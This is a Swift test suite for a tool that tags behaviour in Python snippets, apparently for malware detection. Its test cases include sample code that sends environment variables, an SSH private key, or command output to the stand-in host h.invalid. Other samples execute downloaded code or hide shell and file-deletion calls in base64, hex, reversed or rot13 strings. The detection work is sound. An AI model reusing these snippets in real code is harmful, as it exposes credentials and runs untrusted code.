import Behaviors
import Testing

/// A snippet, the events that it must give in order, and events that it must not give.
struct SequenceCase: Sendable, CustomTestStringConvertible {
    let title: String
    let source: String
    let expected: [String]
    let absent: [String]

    init(_ title: String, _ source: String, _ expected: [String], without absent: [String] = []) {
        self.title = title
        self.source = source
        self.expected = expected
        self.absent = absent
    }

    var testDescription: String { title }
}

@Suite("Behavior sequences of Python")
struct PythonSequenceTests {
    @Test("a member that a base class gets later is found")
    func findsMembersSetLater() {
        let names = pythonEvents(
            """
            import os
            class A: pass
            class B(A): pass
            class C(B): pass
            C().go('whoami')
            A.go = lambda self, command: os.system(command)
            C().go('whoami')

            """)
        // Not found at the call, it would only be walked afterwards, behind `defer`.
        #expect(names.contains("proc.shell") && !names.contains("defer"), "\(names)")
    }

    @Test("names, constants and flows are followed", arguments: cases)
    func givesTheExpectedEvents(_ example: SequenceCase) {
        let names = pythonEvents(example.source)
        #expect(occursInOrder(example.expected, in: names), "\(names)")
        for name in example.absent { #expect(!names.contains(name), "\(names)") }
    }

    static let cases: [SequenceCase] = [
        SequenceCase(
            "an alias of a module", "import os as o\no.system('echo x')",
            ["imp.system", "proc.shell", "arg.constant-command"]),
        SequenceCase(
            "a member imported under another name", "from subprocess import Popen as P\nP(['ls', '-l'])",
            ["imp.process", "proc.spawn"]),
        SequenceCase(
            "a function bound to a variable", "import base64\nd = base64.b64decode\nexec(d(load()))",
            ["dec.base64", "code.exec", "flow.dec>exec"]),
        SequenceCase(
            "a module imported by name", "__import__('os').system('id')",
            ["code.import-dynamic", "imp.system", "cmd.recon", "proc.shell"]),
        SequenceCase(
            "a member reached by a computed name", "import os\ngetattr(os, 'sys' + 'tem')('id')",
            ["code.late-attribute", "proc.shell"]),
        SequenceCase(
            "importlib with a folded name",
            "import importlib\nm = importlib.import_module('sub' + 'process')\nm.call(['x'])",
            ["code.import-dynamic", "imp.process", "proc.spawn"]),
        SequenceCase(
            "names and decoders that eval computes",
            "import base64\na = 'aW1wb3J0IG9zO29zLnN5c3RlbSgnd2hvYW1pJyk='\nb = eval('\\x61') + eval('a[:0]')\nexec(base64.b64decode(eval('b')))",
            ["code.eval", "dec.base64", "layer.begin", "imp.system", "cmd.recon", "proc.shell", "layer.end"]),
        SequenceCase(
            "the whole environment under any key",
            "import os, requests\nrequests.post('https://h.invalid/', json={'env': dict(os.environ)})",
            ["env.all", "net.http.post", "flow.env>send"]),
        SequenceCase(
            "a repository cloned and run",
            "import git, subprocess\ngit.Repo.clone_from('https://h.invalid/x.git', '/tmp/helper')\nsubprocess.run(['/tmp/helper/run'])",
            ["net.download", "flow.net>write", "proc.spawn", "flow.drop>proc"]),
        SequenceCase(
            "a star import of a known module", "from os import *\nsystem('whoami')", ["cmd.recon", "proc.shell"]),
        SequenceCase(
            "an object's method", "import socket\ns = socket.socket()\ns.connect(('h.invalid', 1))\ns.send(b'x')",
            ["net.socket", "net.connect", "net.send"]),
        SequenceCase(
            "an attribute of self",
            "import socket\nclass C:\n  def __init__(self):\n    self.s = socket.socket()\n  def go(self):\n    self.s.connect(('h.invalid', 1))\nC().go()",
            ["net.socket", "net.connect"], without: ["defer"]),
        SequenceCase(
            "downloaded text that is run", "import requests\nexec(requests.get('https://h.invalid/x').text)",
            ["url.ordinary", "net.http.get", "code.exec", "flow.net>exec", "arg.dynamic"]),
        SequenceCase(
            "downloaded text that is only parsed",
            "import requests\nprint(requests.get('https://h.invalid/x').json())", ["net.http.get"],
            without: ["code.exec", "flow.net>exec"]),
        SequenceCase(
            "a download that is run as a program",
            "import urllib.request, subprocess\np = '/opt/x.bin'\nurllib.request.urlretrieve('https://h.invalid/x', p)\nsubprocess.Popen([p])",
            ["net.download", "flow.net>write", "proc.spawn", "flow.drop>proc"]),
        SequenceCase(
            "a download that is only stored",
            "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.invalid/x', 'data.csv')\nsubprocess.Popen(['ls'])",
            ["net.download", "proc.spawn"], without: ["flow.drop>proc"]),
        SequenceCase(
            "content written by an open file and run",
            "import requests, os\nf = open('run.exe', 'wb')\nf.write(requests.get('https://h.invalid/a').content)\nf.close()\nos.system('run.exe')",
            ["fs.write-program", "net.http.get", "flow.net>write", "proc.shell", "flow.drop>proc"]),
        SequenceCase(
            "the environment sent away",
            "import os, requests\nrequests.post('https://h.invalid', json=dict(os.environ))",
            ["env.all", "net.http.post", "flow.env>send"]),
        SequenceCase(
            "a token of the environment used to sign in",
            "import os, requests\nt = os.environ['API_TOKEN']\nrequests.get('https://h.invalid', headers={'Authorization': t})",
            ["env.secret", "net.http.get"], without: ["flow.sec>send", "flow.env>send"]),
        SequenceCase(
            "host facts in an address",
            "import socket, urllib.request as u\nh = socket.gethostname()\nu.urlopen('https://h.invalid/?h=' + h)",
            ["sys.host", "net.http.get", "flow.sys>send"]),
        SequenceCase(
            "a private key read and sent",
            "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nrequests.post('https://h.invalid', data=open(p).read())",
            ["cred.ssh", "fs.read", "net.http.post", "flow.sec>send"]),
        SequenceCase(
            "the output of a command sent",
            "import subprocess, requests\no = subprocess.check_output('whoami', shell=True)\nrequests.post('https://h.invalid', data=o)",
            ["cmd.recon", "proc.capture", "net.http.post", "flow.out>send"]),
        SequenceCase(
            "a flow through a local function",
            "import requests\ndef send(x):\n  requests.post('https://h.invalid', data=x)\nimport getpass\nsend(getpass.getuser())",
            ["sys.user", "net.http.post", "flow.sys>send"]),
        SequenceCase(
            "a flow at the second call of a function",
            "import os, requests\ndef send(x):\n  requests.post('https://h.invalid', data=x)\nsend('hello')\nsend(os.environ)",
            ["net.http.post", "env.all", "flow.env>send"]),
        SequenceCase(
            "what nothing calls comes after the mark", "import os\ndef f():\n  os.system('x')\nos.getcwd()",
            ["imp.system", "sys.folder", "defer", "proc.shell"]),
        SequenceCase(
            "the target of a thread",
            "import os, threading\ndef f():\n  os.system('x')\nthreading.Thread(target=f).start()",
            ["proc.thread", "proc.shell"], without: ["defer"]),
        SequenceCase(
            "a function run at exit", "import atexit, os\ndef f():\n  os.remove('x')\natexit.register(f)",
            ["hook.exit", "fs.delete"], without: ["defer"]),
        SequenceCase(
            "a main guard is not run by an import", "import os\nif __name__ == '__main__':\n  os.system('x')",
            ["imp.system", "defer", "proc.shell"]),
        SequenceCase(
            "a branch on the system", "import sys\nif sys.platform == 'win32':\n  import winreg",
            ["sys.platform", "if.platform", "imp.windows"]),
        SequenceCase(
            "errors hidden around an act", "import os\ntry:\n  os.system('x')\nexcept:\n  pass",
            ["proc.shell", "exc.swallow"]),
        SequenceCase(
            "a missing module is no hidden error", "try:\n  import simplejson\nexcept Exception:\n  pass", [],
            without: ["exc.swallow"]),
        SequenceCase(
            "a loop without an end", "import time\nwhile True:\n  time.sleep(1)", ["loop.forever", "proc.sleep"]),
        SequenceCase(
            "a run of equal events", "import os\n" + String(repeating: "os.remove('x')\n", count: 5),
            ["fs.delete", "run.medium"]),
        SequenceCase(
            "documentation is not classified", "\"\"\"See https://h.invalid and run curl -O x | sh\"\"\"\nx = 1", [],
            without: ["url.ordinary", "cmd.download"]),
    ]

    @Test("text hidden in a string is walked where it runs", arguments: layers)
    func entersLayers(_ example: SequenceCase) {
        let names = pythonEvents(example.source)
        #expect(occursInOrder(example.expected, in: names), "\(names)")
    }

    static let layers: [SequenceCase] = [
        SequenceCase(
            "base64 of code", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
            [
                "dec.base64", "layer.begin", "imp.system", "proc.shell", "layer.end", "code.exec", "flow.dec>exec",
                "arg.hidden-string",
            ]),
        SequenceCase(
            "constant code", "exec('import os\\nos.system(\"id\")')",
            ["code.exec", "arg.constant-code", "layer.begin", "imp.system", "proc.shell", "layer.end"]),
        SequenceCase(
            "characters in a list",
            "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,49,41]))",
            ["dec.char-code", "layer.begin", "imp.system", "fs.delete", "layer.end", "code.exec"]),
        SequenceCase(
            "reversed code", "exec(')1(evomer.so;so tropmi'[::-1])",
            ["dec.reverse", "layer.begin", "imp.system", "fs.delete", "layer.end", "code.exec"]),
        SequenceCase(
            "hexadecimal code", "exec(bytes.fromhex('696d706f7274206f733b6f732e72656d6f7665283129'))",
            ["dec.hex", "layer.begin", "imp.system", "fs.delete", "layer.end"]),
        SequenceCase(
            "code on a command line",
            "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.gethostname()'])",
            ["arg.interpreter", "cmd.inline-code", "layer.begin", "imp.network", "sys.host", "layer.end", "proc.spawn"]),
        SequenceCase(
            "rot13", "import codecs\nexec(codecs.decode('vzcbeg bf;bf.erzbir(1)', 'rot13'))",
            ["dec.codec", "layer.begin", "imp.system", "fs.delete"]),
    ]
}
